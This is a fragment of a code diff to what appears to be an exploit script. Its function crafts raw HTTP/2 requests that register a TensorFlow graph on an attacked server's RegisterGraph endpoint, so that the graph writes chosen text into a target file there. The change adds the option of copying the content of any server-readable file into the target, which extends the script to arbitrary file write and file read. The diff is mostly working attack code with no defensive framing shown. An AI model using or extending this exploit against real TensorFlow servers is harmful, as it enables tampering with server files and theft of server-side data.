@@ -17,12 +17,12 @@ from pathlib import Path
 _KEPT = 64  # connections that stay open
 
 
-def requests(target: Path, text: str, device: str) -> bytes:
+def requests(target: Path, text: str | Path, device: str) -> bytes:
     """Return the bytes of an HTTP/2 connection that registers a graph, which writes `text` into `target`, and runs it.
 
     Args:
         target: The file.
-        text: What it shall hold.
+        text: What it shall hold: this text, or the content of a file that the server can read.
         device: The full name of the CPU of the server that is attacked.
     """
     with warnings.catch_warnings():
@@ -31,7 +31,7 @@ def requests(target: Path, text: str, device: str) -> bytes:
         import tensorflow as tf
 
     with tf.Graph().as_default() as graph, tf.device(device):
-        tf.io.write_file(str(target), text)
+        tf.io.write_file(str(target), tf.io.read_file(str(text)) if isinstance(text, Path) else text)
     register = _field(2, graph.as_graph_def().SerializeToString())  # RegisterGraphRequest.graph_def
     stream = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + _frame(4, 0, 0, b"") + _call(1, "RegisterGraph", register)
     for number in range(1, 40):
